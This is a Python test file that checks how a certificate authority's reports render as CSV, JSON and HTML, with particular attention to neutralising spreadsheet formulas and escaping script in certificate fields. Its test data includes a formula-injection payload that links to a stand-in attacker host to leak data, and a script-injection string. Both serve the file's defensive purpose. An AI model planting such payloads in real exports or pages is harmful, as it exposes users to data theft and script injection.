"""The reports as CSV, JSON and HTML, read back the way their readers read them: the csv module,
json, and html.parser. CLM-08: spreadsheet formulas in certificate fields are neutralised in CSV.
The HTML page escapes certificate text (a subject holding <script>), fetches nothing, runs no
script, and its SVG charts carry the numbers they draw."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

from ca.inventory.model import NewEntry, Source
from ca.service import CertificateAuthority
from server.reports.data import WeakRow, expiring_report, inventory_report, weak_report
from server.reports.issued import issued_report
from server.reports.model import Chart, Report, columns_of, text_rows
from server.reports.render_csv import render_csv
from server.reports.render_html import render_html
from server.reports.render_json import render_json
from tests.inventory_certs import foreign_der
from tests.unit.server.reports.report_scenario import baseline_issuers, build

FORMULA_OWNERS = ('=HYPERLINK("http://evil.example/?leak","click")', "+1", "-1", "@x")
SCRIPT = "<script>alert(1)</script>"
SCRIPT_SUBJECT = r"CN=\<script\>alert(1)\</script\>"  # RFC 4514 escapes < and > with a backslash


async def test_csv_neutralises_formulas(ca: CertificateAuthority) -> None:
    """CLM-08: owners that start with = + - @ come out of the CSV export with a leading
    apostrophe (text, not a formula); every other cell reads back as the report holds it."""
    now = dt.datetime.now(dt.UTC)
    entries = [
        NewEntry(foreign_der(f"f{n}.example.com", not_after=now + dt.timedelta(days=40)), Source.IMPORTED, owner=owner)
        for n, owner in enumerate(FORMULA_OWNERS)
    ]
    await ca.inventory.add(entries, actor="test", now=now)
    report = await inventory_report(ca, now=now)
    header, *cells = list(csv.reader(io.StringIO(render_csv(report))))
    assert tuple(header) == report.columns
    owner = report.columns.index("owner")
    owners = {row[report.columns.index("subject")]: row[owner] for row in cells}
    for n, raw in enumerate(FORMULA_OWNERS):
        assert owners[f"CN=f{n}.example.com"] == "'" + raw
    assert not [row for row in cells for cell in row if cell.startswith(("=", "+", "-", "@"))]
    expected = [[("'" + c if n == owner and c.startswith(("=", "+", "-", "@")) else c) for n, c in enumerate(row)]
                for row in text_rows(report)]  # fmt: skip
    assert cells == expected
    # JSON is read by programs, not spreadsheets: the owners are kept as they are.
    document = json.loads(render_json(report))
    assert {row["owner"] for row in document["rows"]} >= set(FORMULA_OWNERS)


async def test_json_keeps_types(ca: CertificateAuthority, tmp_path: Path) -> None:
    """Numbers and flags typed, lists as lists, times as ISO 8601 UTC, and the chart counts."""
    s = await build(ca, tmp_path)
    report = await expiring_report(ca, days=30, now=s.now)
    document = json.loads(render_json(report))
    assert document["report"] == "expiring" and document["parameters"] == {"days": 30}
    assert document["columns"] == list(report.columns)
    first = document["rows"][0]
    assert first["inventory_id"] == s.expired and first["expired"] is True and first["days_left"] == -4
    assert first["locations"] == [] and first["names"] == ["dns:gone.example.net"]
    assert dt.datetime.strptime(first["not_after"], "%Y-%m-%dT%H:%M:%SZ")
    a = next(row for row in document["rows"] if row["inventory_id"] == s.a)
    assert a["locations"] == ["10.0.0.1:443"] and a["owner"] == "alice@example.com"
    (chart,) = document["charts"]
    assert chart["labels"][0] == "expired" and sum(chart["series"][0]["values"]) == 3


class _Page(HTMLParser):
    """What a reader of the page gets: its tags, table cells, and each chart's printed values."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.headers: list[str] = []
        self.rows: list[list[str]] = []
        self.charts: list[list[str]] = []  # the value labels printed on each SVG's bars
        self.captions: list[str] = []
        self._open: str | None = None  # th | td | value | figcaption
        self._text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if tag == "svg":
            self.charts.append([])
        elif tag == "tr" and self.headers:
            self.rows.append([])
        elif tag in ("th", "td", "figcaption") or (tag == "text" and "value" in (attributes.get("class") or "")):
            self._open, self._text = ("value" if tag == "text" else tag), ""

    def handle_data(self, data: str) -> None:
        if self._open:
            self._text += data

    def handle_endtag(self, tag: str) -> None:
        if self._open is None or tag not in ("th", "td", "text", "figcaption"):
            return
        if self._open == "th":
            self.headers.append(self._text)
        elif self._open == "td":
            self.rows[-1].append(self._text)
        elif self._open == "value":
            if self._text.strip():  # pygal leaves the label of a 0 bar empty (print_zeroes off)
                self.charts[-1].append(self._text)
        else:
            self.captions.append(self._text)
        self._open = None


async def test_html_page(ca: CertificateAuthority, tmp_path: Path) -> None:
    """The inventory page: every row in the table as text (a subject and an owner holding
    <script> escaped, not tags), no script and no external reference anywhere, and three SVG charts whose printed
    numbers are the counts they draw. The other three reports render too."""
    s = await build(ca, tmp_path)
    der = foreign_der(SCRIPT, not_after=s.now + dt.timedelta(days=100), san=False)
    await ca.inventory.add([NewEntry(der, Source.IMPORTED, owner=SCRIPT)], actor="test", now=s.now)
    report = await inventory_report(ca, now=s.now)
    html = render_html(report)
    page = _Page()
    page.feed(html)
    page.close()

    names = {tag for tag, _ in page.tags}
    assert "script" not in names and "script\\" not in names and not {"link", "img", "iframe", "object"} & names
    for _, attributes in page.tags:
        for name, value in attributes.items():
            assert name not in ("src", "href", "xlink:href") and not name.startswith("on"), (name, value)
    assert page.headers == [name.replace("_", " ") for name in report.columns]
    assert page.rows == text_rows(report)
    subject, owner = report.columns.index("subject"), report.columns.index("owner")
    assert [row[owner] for row in page.rows if row[subject] == SCRIPT_SUBJECT] == [SCRIPT]
    assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in html

    assert page.captions == [chart.title for chart in report.charts] and len(page.charts) == 3
    _assert_charts_print_their_counts(report, page)
    per_issuer = dict(zip(report.charts[0].labels, report.charts[0].series[0].values, strict=True))
    own = await baseline_issuers(ca, s.baseline)  # the CA's own certificates are inventoried too
    assert per_issuer[SCRIPT_SUBJECT] == 1 and per_issuer[ca.default_issuer] == own[ca.default_issuer] + 4

    for other in (
        await expiring_report(ca, days=30, now=s.now),
        await weak_report(ca, now=s.now),
        await issued_report(ca, weeks=8, now=s.now),
    ):
        other_page = _Page()
        other_page.feed(render_html(other))
        assert other_page.rows == text_rows(other)
        _assert_charts_print_their_counts(other, other_page)


def _assert_charts_print_their_counts(report: Report, page: _Page) -> None:
    """Each SVG prints on its bars exactly the non-zero counts of its chart."""
    assert len(page.charts) == len(report.charts)
    for chart, printed in zip(report.charts, page.charts, strict=True):
        drawn = [v for series in chart.series for v in series.values if v]
        assert drawn and Counter(printed) == Counter(str(v) for v in drawn), chart.title


async def test_empty_reports_render(ca: CertificateAuthority) -> None:
    """Nothing to report is a page too: the expiring report of a fresh CA (no rows, bars of 0),
    and a weak report without a problem (a chart without labels) say so instead of failing."""
    now = dt.datetime.now(dt.UTC)
    expiring = await expiring_report(ca, days=0, now=now)
    clean = Report("weak", "Weak", now, {}, columns_of(WeakRow), (), (Chart("Problems per kind", (), (), True, True),))
    for report in (expiring, clean):
        assert report.rows == ()
        page = _Page()
        page.feed(render_html(report))
        assert page.rows == [["Nothing to report."]] and len(page.charts) == 1 and page.charts[0] == []
        assert render_csv(report) == ",".join(report.columns) + "\r\n"
        assert json.loads(render_json(report))["rows"] == []
